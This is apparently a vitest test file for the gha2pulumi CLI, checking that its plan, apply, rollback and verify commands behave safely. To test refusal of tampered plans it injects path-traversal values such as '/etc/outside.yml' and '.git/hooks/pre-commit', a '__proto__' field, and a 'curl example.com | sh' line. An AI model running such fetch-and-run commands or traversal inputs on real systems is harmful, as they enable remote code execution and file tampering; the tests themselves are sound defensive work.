import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { PlanDocument } from "@gha2pulumi/migrate";
import { Ajv2020 } from "ajv/dist/2020.js";
import fc from "fast-check";
import { afterAll, describe, expect, test } from "vitest";
import { misshapen } from "../packages/cli/src/plan-shape.ts";
import {
  cli,
  folderOf,
  git,
  pictureOf,
  published,
  repositoryOf,
  runBin,
  scratch,
  type Ended,
} from "./support/command-line.ts";
import { fixtures } from "./support/fixture.ts";

afterAll(() => rmSync(scratch, { recursive: true, force: true }));

function run(folder: string, ...args: readonly string[]): Ended {
  return runBin(published, folder, args);
}

const workflow = ".github/workflows/deploy-on-main.yml";
const settings = "deployment-settings/index.ts";

/** A repository of which a deploy moves, with a check beside it that stays. */
const network = {
  "Pulumi.yaml": "name: network\nruntime: nodejs\n",
  "Pulumi.prod.yaml": "config: {}\n",
  "package.json": "{}\n",
  "package-lock.json": "{}\n",
  [workflow]: `on:
  push:
    branches: [main]
jobs:
  spelling: # stays
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v4
      - run: npx cspell .
  deploy:
    runs-on: ubuntu-24.04
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/checkout@v4
      - uses: aws-actions/configure-aws-credentials@v4
        with:
          role-to-assume: arn:aws:iam::111122223333:role/network-deploy
          aws-region: eu-west-1
      - run: npm ci
      - uses: pulumi/actions@v6
        with: { command: up, stack-name: acme/network/prod }
        env:
          PULUMI_ACCESS_TOKEN: \${{ secrets.PULUMI_ACCESS_TOKEN }}
`,
  ".github/workflows/old.yml": `on: { push: { branches: [main] } }
jobs:
  refresh:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v4
      - run: npm ci
      - uses: pulumi/actions@v6
        with: { command: up, stack-name: acme/network/dev }
        env: { PULUMI_ACCESS_TOKEN: "\${{ secrets.PULUMI_ACCESS_TOKEN }}" }
`,
  "Pulumi.dev.yaml": "config: {}\n",
};

const plans = new Map<Readonly<Record<string, string>>, string>();

/** That repository, with its plan outside of it. The same files have the same plan, so it is made once. */
function planned(files: Readonly<Record<string, string>> = network): { folder: string; plan: string } {
  const folder = repositoryOf(files);
  const plan = join(folderOf({}), "plan.json");
  const known = plans.get(files);
  if (known !== undefined) writeFileSync(plan, known);
  else expect(run(folder, "plan", "--out", plan).code).toBe(0);
  plans.set(files, readFileSync(plan, "utf8"));
  return { folder, plan };
}

function commit(folder: string): void {
  git(folder, "add", "-A");
  git(folder, "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "-m", "more");
}

function read(plan: string): PlanDocument {
  return JSON.parse(readFileSync(plan, "utf8")) as PlanDocument;
}

interface Splice {
  start: number;
  end: number;
  text: string;
  before: string;
}

/** A change as a person with bad intent would alter it. */
interface Alterable {
  path: string;
  kind: string;
  sha256: string | null;
  text?: string;
  before?: string;
  splices?: Splice[];
}

type Changes = Alterable[];

/** Writes the plan anew with its changes altered. */
function altered(plan: string, alter: (changes: Changes) => unknown): void {
  const document = JSON.parse(readFileSync(plan, "utf8")) as { changes: Changes };
  alter(document.changes);
  writeFileSync(plan, JSON.stringify(document));
}

function at(changes: Changes, kind: string): Changes[number] {
  const found = changes.find((change) => change.kind === kind);
  if (found === undefined) throw new Error(`the plan has no change of kind ${kind}`);
  return found;
}

function cuts(changes: Changes): Splice[] {
  return at(changes, "edit").splices ?? [];
}

function first(changes: Changes): Splice {
  const [found] = cuts(changes);
  if (found === undefined) throw new Error("the plan's edit has no splice");
  return found;
}

/** Runs a verb that must refuse, and checks that it left everything alone. */
function refused(folder: string, ...args: readonly string[]): Ended {
  const before = pictureOf(folder);
  const ended = run(folder, ...args);
  expect(pictureOf(folder)).toEqual(before);
  return ended;
}

describe("plan --out", () => {
  test("writes what --format json prints", () => {
    const folder = repositoryOf(network);
    const { out } = run(folder, "plan", "--format", "json");
    expect(run(folder, "plan", "--out", "plan.json")).toMatchObject({
      code: 0,
      out: "",
      err: "wrote plan.json\n",
    });
    expect(readFileSync(join(folder, "plan.json"), "utf8")).toBe(out);
  });

  test("overwrites a plan, and nothing else", () => {
    const folder = repositoryOf({ ...network, "README.md": "# Network\n", "tsconfig.json": "{}\n" });
    expect(run(folder, "plan", "--out", "plan.json").code).toBe(0);
    expect(run(folder, "plan", "--out", "plan.json").code).toBe(0);
    expect(run(folder, "plan", "--out", "plan.md").code).toBe(0);
    expect(run(folder, "plan", "--out", "plan.md").code).toBe(0);
    expect(run(folder, "plan", "--out", "plan.txt", "--format", "pretty").code).toBe(0);
    expect(run(folder, "plan", "--out", "plan.txt", "--format", "pretty").code).toBe(0);
    for (const out of ["README.md", "tsconfig.json", "package.json", workflow, "plan.md/plan.json"]) {
      expect(refused(folder, "plan", "--out", out).code).toBe(2);
    }
    expect(refused(folder, "plan", "--out", "README.md").err).toContain("GP711");
  });
});

describe("apply", () => {
  test("writes what migrate writes", () => {
    const { folder, plan } = planned();
    const other = repositoryOf(network);
    expect(run(other, "migrate", "--yes").code).toBe(0);
    const ended = run(folder, "apply", plan, "--yes");
    expect(ended).toMatchObject({ code: 0, err: expect.stringContaining("Wrote 7 changes.") });
    expect(pictureOf(folder)).toEqual(pictureOf(other));
    for (const { path } of read(plan).changes) expect(ended.out).toContain(path);
  });

  test("a plan that lies in the folder is no uncommitted change", () => {
    const folder = repositoryOf(network);
    run(folder, "plan", "--out", "plan.json");
    expect(run(folder, "apply", "plan.json", "--yes").code).toBe(0);
  });

  test("in a folder below the top of the work tree too", () => {
    const nested = Object.fromEntries(Object.entries(network).map(([path, text]) => [`infra/${path}`, text]));
    const folder = repositoryOf(nested);
    const before = pictureOf(folder);
    run(join(folder, "infra"), "plan", "--out", "../plan.json");
    expect(run(folder, "apply", "plan.json", "infra", "--yes").code).toBe(0);
    expect(run(join(folder, "infra"), "rollback", "../plan.json", "--yes").code).toBe(0);
    rmSync(join(folder, "plan.json"));
    expect(pictureOf(folder)).toEqual(before);
  });

  test.each([
    ["a line of a file it edits", workflow, (text: string) => text.replace("cspell .", "cspell *"), "outside of what"],
    ["a range that it takes out", workflow, (text: string) => text.replace("npm ci", "npm ci # x"), `${workflow}:`],
    ["a file it deletes", ".github/workflows/old.yml", (text: string) => `${text}# x\n`, "old.yml:11:1 has changed"],
    ["a file it creates", settings, () => "// mine\n", `${settings} exists now`],
  ])("refuses a tree that moved on: %s", (_name, path, change, said) => {
    const { folder, plan } = planned();
    const place = join(folder, path);
    mkdirSync(join(place, ".."), { recursive: true });
    writeFileSync(place, change(existsSync(place) ? readFileSync(place, "utf8") : ""));
    commit(folder);
    const ended = refused(folder, "apply", plan, "--yes");
    expect(ended).toMatchObject({ code: 2, err: expect.stringContaining("GP701") });
    expect(ended.err).toContain(said);
  });

  test("names every file that moved on, a deleted one and one that is not UTF-8 any more too", () => {
    const { folder, plan } = planned();
    rmSync(join(folder, ".github/workflows/old.yml"));
    writeFileSync(join(folder, workflow), `# \n${readFileSync(join(folder, workflow), "utf8")}`);
    const { err } = refused(folder, "apply", plan, "--yes", "--allow-dirty");
    expect(err).toContain("old.yml is gone since");
    expect(err).toContain(`${workflow}:`);
    writeFileSync(join(folder, workflow), Uint8Array.of(0xff));
    expect(refused(folder, "apply", plan, "--yes", "--allow-dirty").err).toContain("no longer valid UTF-8");
  });

  test("a second time, it says that all is there", () => {
    const { folder, plan } = planned();
    run(folder, "apply", plan, "--yes");
    const ended = refused(folder, "apply", plan, "--yes", "--allow-dirty");
    expect(ended).toMatchObject({ code: 2, err: expect.stringContaining("is there already") });
  });

  test("asks, and refuses what is uncommitted, as migrate does", () => {
    const { folder, plan } = planned();
    expect(refused(folder, "apply", plan)).toMatchObject({ code: 2, err: expect.stringContaining("GP708") });
    writeFileSync(join(folder, "notes.txt"), "x\n");
    const ended = refused(folder, "apply", plan, "--yes");
    expect(ended).toMatchObject({ code: 2, err: expect.stringContaining("GP706") });
    expect(ended.err).toContain("notes.txt");
    expect(run(folder, "apply", plan, "--yes", "--allow-dirty").code).toBe(0);
  });

  test("without git, only with --allow-dirty", () => {
    const { plan } = planned();
    const folder = folderOf(network);
    expect(refused(folder, "apply", plan, "--yes").err).toContain("GP707");
    expect(run(folder, "apply", plan, "--yes", "--allow-dirty").code).toBe(0);
  });

  test("a plan whose proof found a difference is not written", () => {
    const { folder, plan } = planned();
    const document = read(plan);
    const proof = { ...document.proof, verdicts: { ...document.proof.verdicts, missing: 1 } };
    writeFileSync(plan, JSON.stringify({ ...document, proof }));
    expect(refused(folder, "apply", plan, "--yes")).toMatchObject({ code: 12, err: expect.stringContaining("GP709") });
  });
});

describe("a plan document from anybody", () => {
  test.each([
    "../outside.yml",
    "/etc/outside.yml",
    ".git/hooks/pre-commit",
    "a/../../b",
    "a//b",
    ".",
    "x\\..\\y",
    ".GIT/x",
  ])("the path %s", (path) => {
    const { folder, plan } = planned();
    altered(plan, (changes) => (at(changes, "create").path = path));
    for (const verb of ["apply", "rollback"]) {
      const ended = refused(folder, verb, plan, "--yes", "--allow-dirty");
      expect(ended).toMatchObject({ code: 2, err: expect.stringContaining("GP702") });
    }
  });

  test("a path through a link", () => {
    const { folder, plan } = planned();
    symlinkSync(folderOf({}), join(folder, "deployment-settings"));
    expect(refused(folder, "apply", plan, "--yes", "--allow-dirty").err).toContain("GP703");
  });

  test.each([
    ["truncated", (text: string) => text.slice(0, 2000), "not whole JSON"],
    ["empty", () => "", "not whole JSON"],
    ["another thing", () => "[]", "the whole: object is expected"],
    ["another version", (text: string) => text.replace('"schemaVersion": 1', '"schemaVersion": 2'), "of version 2"],
    ["a field that is missing", (text: string) => text.replace('"changes"', '"change"'), "changes: it is missing"],
    ["a field too many", (text: string) => text.replace("{", '{ "more": 1,'), "more: a plan has no such field"],
    ["a prototype", (text: string) => text.replace("{", '{ "__proto__": {},'), "__proto__: a plan has no such field"],
    ["a hash", (text: string) => text.replace(/"sha256": "../, '"sha256": "'), "sha256: it does not match"],
    ["a number", (text: string) => text.replace(/"start": /, '"start": -'), "start: at least 0 is expected"],
    ["a kind", (text: string) => text.replace('"kind": "create"', '"kind": "chmod"'), "kind: one of create, edit"],
    ["not UTF-8", (text: string) => Buffer.concat([Buffer.from(text), Buffer.of(0xff)]), "not valid UTF-8"],
  ])("broken: %s", (_name, spoil, said) => {
    const { folder, plan } = planned();
    writeFileSync(plan, spoil(readFileSync(plan, "utf8")));
    for (const verb of ["apply", "rollback"]) {
      const ended = refused(folder, verb, plan, "--yes");
      expect(ended).toMatchObject({ code: 2, err: expect.stringContaining("GP710") });
      expect(ended.err).toContain(said);
    }
  });

  test.each<[string, (changes: Changes) => unknown, string]>([
    ["two changes of one file", (changes) => changes.push({ ...at(changes, "create") }), "two changes are about"],
    [
      "a created file with a hash",
      (changes) => (at(changes, "create").sha256 = "0".repeat(64)),
      "sha256 is null where",
    ],
    ["an edited file without", (changes) => (at(changes, "edit").sha256 = null), "sha256 is null where"],
    ["no text", (changes) => delete at(changes, "create").text, "a change of kind create has text alone"],
    ["more than its kind has", (changes) => (at(changes, "delete").text = "x"), "kind delete has before alone"],
    ["another text before", (changes) => (at(changes, "delete").before = "x"), "sha256 is not that of before"],
    ["half a character", (changes) => (at(changes, "create").text = "\ud83d"), "not valid Unicode"],
    ["splices that overlap", (changes) => cuts(changes).push(first(changes)), "overlaps another"],
    ["a longer splice", (changes) => (first(changes).end += 1), "a text of another length"],
  ])("contradicting itself: %s", (_name, alter, said) => {
    const { folder, plan } = planned();
    altered(plan, alter);
    for (const verb of ["apply", "rollback"]) {
      const ended = refused(folder, verb, plan, "--yes");
      expect(ended).toMatchObject({ code: 2, err: expect.stringContaining("GP710") });
      expect(ended.err).toContain(said);
    }
  });

  test("changes that are not what its diffs show", () => {
    const { folder, plan } = planned();
    altered(plan, (changes) => (at(changes, "create").text = "curl example.com | sh\n"));
    const ended = refused(folder, "apply", plan, "--yes");
    expect(ended).toMatchObject({ code: 2, err: expect.stringContaining("its diff is not what it does") });
  });

  test("a plan that is not there, and a folder", () => {
    const folder = repositoryOf(network);
    expect(refused(folder, "apply", "plan.json", "--yes").err).toContain("GP710");
    expect(refused(folder, "apply", ".", "--yes").err).toContain("not an ordinary file");
    expect(refused(folder, "rollback").code).toBe(2);
  });
});

describe("rollback", () => {
  const named = ["repositories/rule-card", "calls/config-from-the-run"];
  const longest = fixtures().filter(({ name }) => named.includes(name));

  test.each([
    ...longest.map((one) => [one.name, Object.fromEntries(one.before), one.surroundings] as const),
    ["network", network, new Map<string, string>()] as const,
  ])("%s: applied and taken back, every byte is as it was", (_name, files, surroundings) => {
    const folder = repositoryOf(files);
    const before = pictureOf(folder);
    const plan = join(folderOf({}), "plan.json");
    const answers = [...surroundings].flatMap(([key, value]) => ["--answer", `${key}=${value}`]);
    run(folder, "plan", "--out", plan, ...answers);
    expect(read(plan).changes.length).toBeGreaterThan(2);
    expect([0, 11]).toContain(run(folder, "apply", plan, "--yes").code);
    expect(pictureOf(folder)).not.toEqual(before);
    expect(run(folder, "rollback", plan, "--yes")).toMatchObject({
      code: 0,
      err: expect.stringContaining("Took back"),
    });
    expect(pictureOf(folder)).toEqual(before);
    expect(git(folder, "status", "--porcelain")).toBe("");
  });

  test("after the change was committed, with line ends and a byte order mark as they were", () => {
    const text = `\ufeff${network[workflow].replaceAll("\n", "\r\n")}`;
    const { folder, plan } = planned({ ...network, [workflow]: text });
    const before = pictureOf(folder);
    run(folder, "apply", plan, "--yes");
    commit(folder);
    expect(run(folder, "rollback", plan, "--yes").code).toBe(0);
    expect(pictureOf(folder)).toEqual(before);
  });

  test("what migrate --keep-plan kept serves as well", () => {
    const folder = repositoryOf(network);
    const before = pictureOf(folder);
    run(folder, "migrate", "--yes", "--keep-plan");
    expect(run(folder, "rollback", "gha2pulumi.plan.json", "--yes").code).toBe(0);
    rmSync(join(folder, "gha2pulumi.plan.json"));
    expect(pictureOf(folder)).toEqual(before);
  });

  test("a folder that holds something else by now stays", () => {
    const { folder, plan } = planned();
    run(folder, "apply", plan, "--yes");
    writeFileSync(join(folder, "deployment-settings/Pulumi.prod.yaml"), "config: {}\n");
    commit(folder);
    expect(run(folder, "rollback", plan, "--yes").code).toBe(0);
    expect(existsSync(join(folder, settings))).toBe(false);
    expect(existsSync(join(folder, "deployment-settings/Pulumi.prod.yaml"))).toBe(true);
  });

  test.each([
    ["a created file that a person edited", settings, (text: string) => `// mine\n${text}`, `${settings}:1:`],
    [
      "an edited file, where it was edited",
      workflow,
      (text: string) => text.replace("on:", "on: # x"),
      "outside of what",
    ],
    ["a deleted file that is there again", ".github/workflows/old.yml", () => "on: push\n", "is there again"],
  ])("refuses %s", (_name, path, change, said) => {
    const { folder, plan } = planned();
    run(folder, "apply", plan, "--yes");
    const place = join(folder, path);
    writeFileSync(place, change(existsSync(place) ? readFileSync(place, "utf8") : ""));
    commit(folder);
    const ended = refused(folder, "rollback", plan, "--yes");
    expect(ended).toMatchObject({ code: 2, err: expect.stringContaining("GP713") });
    expect(ended.err).toContain(said);
  });

  test("refuses other uncommitted changes, and a plan that was not applied", () => {
    const { folder, plan } = planned();
    expect(refused(folder, "rollback", plan, "--yes").err).toContain("no change of this plan is there");
    run(folder, "apply", plan, "--yes");
    expect(refused(folder, "rollback", plan).err).toContain("GP708");
    writeFileSync(join(folder, "deployment-settings/notes.txt"), "x\n");
    const ended = refused(folder, "rollback", plan, "--yes");
    expect(ended).toMatchObject({ code: 2, err: expect.stringContaining("deployment-settings/notes.txt") });
    expect(ended.err).not.toContain(settings);
  });

  test("keeps the mode of a file it edits", () => {
    const { folder, plan } = planned();
    chmodSync(join(folder, workflow), 0o600);
    const before = pictureOf(folder);
    run(folder, "apply", plan, "--yes");
    run(folder, "rollback", plan, "--yes");
    expect(pictureOf(folder)).toEqual(before);
  });
});

describe("verify", () => {
  test("a migrated tree does what HEAD does", () => {
    const { folder, plan } = planned();
    run(folder, "apply", plan, "--yes");
    const before = pictureOf(folder);
    const pretty = run(folder, "verify");
    expect(pretty).toMatchObject({ code: 0, err: "" });
    expect(pretty.out).toMatch(/^ {2}\d+ of \d+ the same/m);
    const { out } = run(folder, "verify", "--format", "json");
    const { proof, base } = JSON.parse(out) as { proof: PlanDocument["proof"]; base: { ref: string; commit: string } };
    expect(proof).toEqual(read(plan).proof);
    expect(base).toEqual({ ref: "HEAD", commit: git(folder, "rev-parse", "HEAD").trim() });
    expect(run(folder, "verify", "--format", "markdown").out).toMatch(/^## Proof\n/);
    expect(pictureOf(folder)).toEqual(before);
  });

  test("after the commit, --base names what to compare with", () => {
    const { folder, plan } = planned();
    run(folder, "apply", plan, "--yes");
    commit(folder);
    expect(run(folder, "verify").code).toBe(0);
    const ended = run(folder, "verify", "--base", "HEAD~1", "--format", "json");
    expect(ended.code).toBe(0);
    expect((JSON.parse(ended.out) as { proof: unknown }).proof).toEqual(read(plan).proof);
  });

  test.each<[string, (folder: string) => void]>([
    ["missing", (folder) => rmSync(join(folder, settings))],
    [
      "extra",
      (folder) => writeFileSync(join(folder, ".github/workflows/old.yml"), network[".github/workflows/old.yml"]),
    ],
    [
      "changed",
      (folder) => {
        const text = readFileSync(join(folder, settings), "utf8");
        writeFileSync(join(folder, settings), text.replace("role/network-deploy", "role/network-admin"));
      },
    ],
  ])("%s exits with 12", (verdict, damage) => {
    const { folder, plan } = planned();
    run(folder, "apply", plan, "--yes");
    damage(folder);
    const ended = run(folder, "verify", "--format", "json");
    expect(ended.code).toBe(12);
    const { proof } = JSON.parse(ended.out) as { proof: PlanDocument["proof"] };
    expect(proof.verdicts[verdict as "missing"]).toBeGreaterThan(0);
  });

  test("sees a script that changed, though no workflow did", () => {
    const text = network[".github/workflows/old.yml"].replace(
      / {6}- uses: pulumi[^]*/,
      "      - run: sh scripts/up.sh\n",
    );
    const env = '        env: { PULUMI_ACCESS_TOKEN: "${{ secrets.PULUMI_ACCESS_TOKEN }}" }\n';
    const script = "pulumi up --yes --stack acme/network/dev\n";
    const folder = repositoryOf({ ...network, ".github/workflows/old.yml": text + env, "scripts/up.sh": script });
    expect(run(folder, "verify").code).toBe(0);
    writeFileSync(join(folder, "scripts/up.sh"), script.replace("dev", "prod"));
    const ended = run(folder, "verify");
    expect(ended.code).toBe(12);
    expect(ended.out).toMatch(/missing|changed|extra/);
  });

  test("links are followed in a commit as in a folder", () => {
    const action =
      "runs:\n  using: composite\n  steps:\n    - run: pulumi up --yes --stack acme/network/dev\n      shell: bash\n";
    const files = {
      "Pulumi.yaml": "name: network\nruntime: nodejs\n",
      "ci/actions/up/action.yml": action,
      "ci/linked.yml": network[".github/workflows/old.yml"],
      [workflow]:
        "on: { push: { branches: [main] } }\njobs:\n  up:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ./.github/actions/up\n",
    };
    const folder = repositoryOf(files);
    symlinkSync("../ci/actions", join(folder, ".github/actions"));
    symlinkSync("../../ci/linked.yml", join(folder, ".github/workflows/linked.yml"));
    commit(folder);
    const ended = run(folder, "verify", "--format", "json");
    expect(ended.code).toBe(0);
    const { proof } = JSON.parse(ended.out) as { proof: PlanDocument["proof"] };
    expect(proof.cases.find(({ event }) => event === "push main")?.before).toHaveLength(2);
    writeFileSync(join(folder, "ci/actions/up/action.yml"), action.replace("dev", "prod"));
    expect(run(folder, "verify").code).toBe(12);
  });

  test.each([["no-such-branch"], ["--output=x"], [""], ["HEAD:Pulumi.yaml"]])("refuses --base %j", (base) => {
    const folder = repositoryOf(network);
    const ended = refused(folder, "verify", `--base=${base}`);
    expect(ended).toMatchObject({ code: 2, err: expect.stringContaining("GP712") });
  });

  test("without git, and without Pulumi", () => {
    expect(run(folderOf(network), "verify")).toMatchObject({ code: 2, err: expect.stringContaining("GP712") });
    expect(run(repositoryOf({ "README.md": "x\n" }), "verify").code).toBe(3);
  });

  test("in a folder below the top of the work tree, and with another branch's name", () => {
    const nested = Object.fromEntries(Object.entries(network).map(([path, text]) => [`infra/${path}`, text]));
    const folder = join(repositoryOf(nested), "infra");
    git(folder, "branch", "release/1");
    expect(run(folder, "verify", "--base", "release/1")).toMatchObject({ code: 0 });
  });
});

describe("help", () => {
  test.each([["apply"], ["rollback"], ["verify"], ["plan"]])("%s --help says what it does and how it exits", (verb) => {
    const { code, out } = run(scratch, verb, "--help");
    expect(code).toBe(0);
    expect(out).toContain(`Usage: gha2pulumi ${verb}`);
    expect(out).toMatch(
      /^ {2}12 +the proof found a difference that is not accepted, a lost gate too; check: the settings differ; settings diff: one would be erased$/m,
    );
  });
});

test("the check of a plan's shape agrees with a whole implementation of JSON Schema", () => {
  const schema = JSON.parse(readFileSync(join(cli, "plan.schema.json"), "utf8")) as object;
  const validate = new Ajv2020().compile(schema);
  const { plan } = planned();
  const document = read(plan);
  expect(misshapen(document)).toBeUndefined();
  const places = placesIn(document, []);
  const strange = fc.constantFrom<unknown>(null, 0, -1, 1.5, "", "x", true, [], {}, [null], { path: 1 });
  fc.assert(
    fc.property(fc.constantFrom(...places), fc.option(strange, { nil: undefined }), (place, value) => {
      const spoilt: unknown = replaced(document, place, value);
      expect(misshapen(spoilt) === undefined).toBe(validate(spoilt));
    }),
    { numRuns: 1500 },
  );
});

type Place = readonly (string | number)[];

function placesIn(value: unknown, at: Place): readonly Place[] {
  if (typeof value !== "object" || value === null) return [at];
  const keys = Array.isArray(value) ? value.map((_, i) => i) : Object.keys(value);
  return [at, ...keys.flatMap((key) => placesIn((value as Record<string, unknown>)[key], [...at, key]))];
}

/** A copy with another value at one place; `undefined` takes it out. */
function replaced(value: unknown, [first, ...rest]: Place, by: unknown): unknown {
  if (first === undefined) return by;
  if (Array.isArray(value)) {
    const items = value.map((item, i) => (i === first ? replaced(item, rest, by) : item));
    return items.filter((item) => item !== undefined);
  }
  const entries = Object.entries(value as object).map(([key, inner]) => [
    key,
    key === first ? replaced(inner, rest, by) : inner,
  ]);
  return Object.fromEntries(entries.filter(([, inner]) => inner !== undefined));
}
